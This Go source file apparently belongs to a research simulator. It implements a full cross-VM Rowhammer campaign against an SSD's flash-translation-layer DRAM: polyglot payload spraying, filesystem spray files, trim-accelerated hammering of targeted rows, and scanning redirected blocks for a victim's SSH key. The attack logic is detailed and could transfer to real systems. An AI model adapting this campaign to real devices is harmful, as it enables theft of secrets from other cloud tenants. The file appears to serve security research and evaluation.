package attack

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"sort"

	"ftlhammer/internal/cloud"
	"ftlhammer/internal/ext4"
	"ftlhammer/internal/ftl"
	"ftlhammer/internal/nvme"
	"ftlhammer/internal/sim"
)

// CampaignConfig tunes the end-to-end §4.2 exploit loop.
type CampaignConfig struct {
	// SprayFiles is the number of spray files per cycle.
	SprayFiles int
	// TargetsPerFile is the pointer fan-out of each malicious block.
	TargetsPerFile int
	// MaxCycles bounds the campaign.
	MaxCycles int
	// Pattern is the hammer shape driven over each targeted binding.
	// Zero Sides means the classic double-sided hammer; zero Iterations
	// means a per-binding budget of two refresh windows' worth of reads
	// at the required rate, every cycle.
	Pattern Pattern
	// TriplesPerCycle bounds how many (spray-overlapping) triples are
	// hammered each cycle (0 = 4).
	TriplesPerCycle int
	// Hunt is the content marker that ends the campaign when dumped
	// (default: the victim's SSH key marker).
	Hunt string
}

// CampaignReport summarizes a campaign.
type CampaignReport struct {
	Cycles        int
	SpraysCreated int
	// HammerReads counts the reads the hammer stage actually issued on
	// the attacker namespace (decoy and cache-eviction reads included).
	HammerReads   uint64
	LeaksDetected int
	BlocksDumped  int
	SecretFound   bool
	SecretContent []byte
	// DegradedCycles counts cycles whose spray stage failed from
	// collateral filesystem corruption (§3.2) and fell back to the
	// previous spray set.
	DegradedCycles int
	// FlipsInduced is ground truth from the DRAM model (evaluation
	// metric, not attacker-visible).
	FlipsInduced uint64
	// Elapsed is virtual time from campaign start to finish.
	Elapsed sim.Duration
}

// Campaign wires the two attacker vantage points of Figure 2(b): the
// unprivileged process inside the victim VM (spray + scan through the
// filesystem) and the attacker VM (offline analysis + hammering through
// direct device access).
type Campaign struct {
	TB  *cloud.Testbed
	Cfg CampaignConfig

	hammerer *DeviceHammerer
	sprayer  *Sprayer
	bindings []Binding
	trimmed  map[ftl.LBA]bool
}

// NewCampaign prepares a campaign against the testbed. It rejects a
// TargetsPerFile above MaxPointerTargets, the fan-out of one indirect
// block.
func NewCampaign(tb *cloud.Testbed, cfg CampaignConfig) (*Campaign, error) {
	if cfg.SprayFiles <= 0 {
		cfg.SprayFiles = 512
	}
	if cfg.TargetsPerFile <= 0 {
		cfg.TargetsPerFile = 64
	}
	if cfg.TargetsPerFile > MaxPointerTargets {
		return nil, fmt.Errorf("attack: TargetsPerFile %d exceeds the %d pointers of one indirect block",
			cfg.TargetsPerFile, MaxPointerTargets)
	}
	if cfg.MaxCycles <= 0 {
		cfg.MaxCycles = 10
	}
	if cfg.Pattern.Sides == 0 {
		cfg.Pattern.Sides = 2
	}
	if cfg.TriplesPerCycle <= 0 {
		cfg.TriplesPerCycle = 4
	}
	if cfg.Hunt == "" {
		cfg.Hunt = cloud.SecretMarker
	}
	return &Campaign{
		TB:       tb,
		Cfg:      cfg,
		hammerer: &DeviceHammerer{Dev: tb.Device, NS: tb.AttackerNS, Path: nvme.PathDirect},
		sprayer:  NewSprayer(tb.VictimFS, cloud.AttackerCred, "/home/attacker"),
	}, nil
}

// targetedBindings ranks bindings by how many sprayed indirect-block
// translations their victim row holds: the attacker knows its own files'
// block numbers (FIEMAP on its own files) and the device layout, so it
// hammers where spraying actually landed.
func (c *Campaign) targetedBindings() []Binding {
	spray := make(map[ftl.LBA]bool, len(c.sprayer.Files()))
	for _, sf := range c.sprayer.Files() {
		spray[c.TB.VictimNS.StartLBA+ftl.LBA(sf.IndirectFSBlock)] = true
	}
	type scored struct {
		b     Binding
		score int
	}
	var sc []scored
	for _, b := range c.bindings {
		n := 0
		for _, lineLBA := range b.VictimGlobalLBAs {
			for k := ftl.LBA(0); k < LineEntries; k++ {
				if spray[lineLBA+k] {
					n++
				}
			}
		}
		sc = append(sc, scored{b, n})
	}
	sort.SliceStable(sc, func(i, j int) bool { return sc[i].score > sc[j].score })
	out := make([]Binding, 0, c.Cfg.TriplesPerCycle)
	for _, s := range sc {
		if len(out) >= c.Cfg.TriplesPerCycle {
			break
		}
		out = append(out, s.b)
	}
	return out
}

// trimBinding deallocates every LBA the hammer workload will read, plus
// the decoy, once.
func (c *Campaign) trimBinding(b Binding) error {
	if c.trimmed == nil {
		c.trimmed = make(map[ftl.LBA]bool)
	}
	trim := func(lba ftl.LBA) error {
		if c.trimmed[lba] {
			return nil
		}
		c.trimmed[lba] = true
		return c.TB.Device.Trim(c.TB.AttackerNS, lba, nvme.PathDirect)
	}
	for _, side := range b.Sides {
		for _, lba := range side {
			if err := trim(lba); err != nil {
				return err
			}
		}
	}
	if b.HasDecoy {
		return trim(b.DecoyLBA)
	}
	return nil
}

// Run executes the campaign until the hunted content is dumped or the
// cycle budget runs out. On an error it returns the report so far, with
// the flips induced and the virtual time spent up to the failure.
func (c *Campaign) Run() (*CampaignReport, error) {
	rep := &CampaignReport{}
	start := c.TB.Device.Clock().Now()
	flipsBefore := c.TB.Device.DRAM().Stats().Flips
	defer func() {
		rep.FlipsInduced = c.TB.Device.DRAM().Stats().Flips - flipsBefore
		rep.Elapsed = c.TB.Device.Clock().Now().Sub(start)
	}()

	// Offline stage: device layout analysis (§4.2 "hammering stage"
	// preparation). Many-sided patterns need the analysis to bind extra
	// same-bank far rows per binding.
	bindings, err := Analyze(c.TB.Device, c.TB.AttackerNS, AnalyzeOptions{
		VictimNSID: c.TB.VictimNS.ID,
		Sides:      c.Cfg.Pattern.Sides,
	})
	if err != nil {
		return rep, err
	}
	c.bindings = bindings

	// Attacker-VM spray: fill the whole own partition with polyglot
	// payloads — valid pointer arrays sweeping the victim filesystem AND
	// executable content — so a redirected victim translation lands on
	// something useful (§4.2: the paper fills 100% of the attacker
	// partition).
	dataStart := uint32(c.TB.VictimFS.DataStart())
	fsSpan := uint32(c.TB.VictimNS.NumLBAs) - dataStart
	payload, err := CraftPolyglot(make([]uint32, 512), cloud.PolyglotMarker, []byte("uid=0(root) shell"))
	if err != nil {
		return rep, err
	}
	window := uint32(0)
	for i := uint64(0); i < c.TB.AttackerNS.NumLBAs; i++ {
		// Only the 512 pointer slots differ from LBA to LBA; the marker
		// and payload tail stay as CraftPolyglot wrote them.
		for j := uint32(0); j < 512; j++ {
			binary.LittleEndian.PutUint32(payload[j*4:], dataStart+(window+j)%fsSpan)
		}
		window += 512
		if err := RawSpray(c.TB.Device, c.TB.AttackerNS, nvme.PathDirect, []ftl.LBA{ftl.LBA(i)}, payload); err != nil {
			return rep, err
		}
	}

	sweep := uint32(c.TB.VictimFS.DataStart())
	span := uint32(c.Cfg.SprayFiles * c.Cfg.TargetsPerFile)
	budget := c.Cfg.Pattern.Iterations
	if budget <= 0 {
		budget = HammerBudget(c.TB.Device, 2)
	}
	for cycle := 0; cycle < c.Cfg.MaxCycles; cycle++ {
		rep.Cycles = cycle + 1

		// Spraying stage (unprivileged, inside the victim VM). Each
		// cycle sprays into a fresh subdirectory: induced bitflips can
		// corrupt the attacker's own directory metadata (§3.2 "data
		// corruption"), and a fresh directory sidesteps the damage.
		dir := fmt.Sprintf("/home/attacker/c%03d", cycle)
		sprayOK := true
		if err := c.TB.VictimFS.Mkdir(dir, cloud.AttackerCred, 0o755); err != nil && err != ext4.ErrExists {
			// Collateral corruption can break even directory creation;
			// degrade to hammering the existing spray set.
			sprayOK = false
			rep.DegradedCycles++
		}
		if sprayOK {
			c.sprayer.Dir = dir
			var created int
			if cycle == 0 {
				created, err = c.sprayer.Spray(c.Cfg.SprayFiles, c.Cfg.TargetsPerFile, sweep)
			} else {
				created, err = c.sprayer.Respray(c.Cfg.SprayFiles, c.Cfg.TargetsPerFile, sweep)
			}
			if err != nil {
				if len(c.sprayer.Files()) == 0 {
					return rep, fmt.Errorf("attack: spray cycle %d: %w", cycle, err)
				}
				rep.DegradedCycles++
			}
			rep.SpraysCreated += created
		}
		sweep += span
		if uint64(sweep) >= c.TB.VictimNS.NumLBAs {
			sweep = uint32(c.TB.VictimFS.DataStart())
		}

		// Hammering stage (attacker VM, direct path). The hammer LBAs
		// are trimmed first: reads of deallocated blocks skip flash and
		// run at interface speed, the acceleration the §3 threat model
		// calls out — polyglot-filled pages elsewhere stay intact.
		for _, b := range c.targetedBindings() {
			if err := c.trimBinding(b); err != nil {
				return rep, fmt.Errorf("attack: trim cycle %d: %w", cycle, err)
			}
			pat := c.Cfg.Pattern
			pat.Iterations = budget
			if pat.NeedsDecoy() && !b.HasDecoy {
				// Drop decoy elements rather than failing the whole cycle.
				pat = pat.WithoutDecoys()
			}
			if pat.Sides > len(b.Sides) {
				// A bank can run out of far rows to extend a binding with;
				// clamp the pattern to the sides this binding does provide.
				pat = pat.ClampSides(len(b.Sides))
			}
			reads := c.TB.AttackerNS.Stats().Reads
			if err := c.hammerer.Hammer(b, pat); err != nil {
				return rep, fmt.Errorf("attack: hammer cycle %d: %w", cycle, err)
			}
			rep.HammerReads += c.TB.AttackerNS.Stats().Reads - reads
		}

		// Scan stage (unprivileged, inside the victim VM).
		leaks, err := c.sprayer.Scan()
		if err != nil {
			return rep, err
		}
		rep.LeaksDetected += len(leaks)
		for _, leak := range leaks {
			dump, err := c.sprayer.Dump(leak, c.Cfg.TargetsPerFile)
			if err != nil {
				continue
			}
			rep.BlocksDumped += len(dump)
			for _, blk := range dump {
				if bytes.Contains(blk, []byte(c.Cfg.Hunt)) {
					rep.SecretFound = true
					rep.SecretContent = blk
					break
				}
			}
			if rep.SecretFound {
				break
			}
		}
		if rep.SecretFound {
			break
		}
	}
	return rep, nil
}
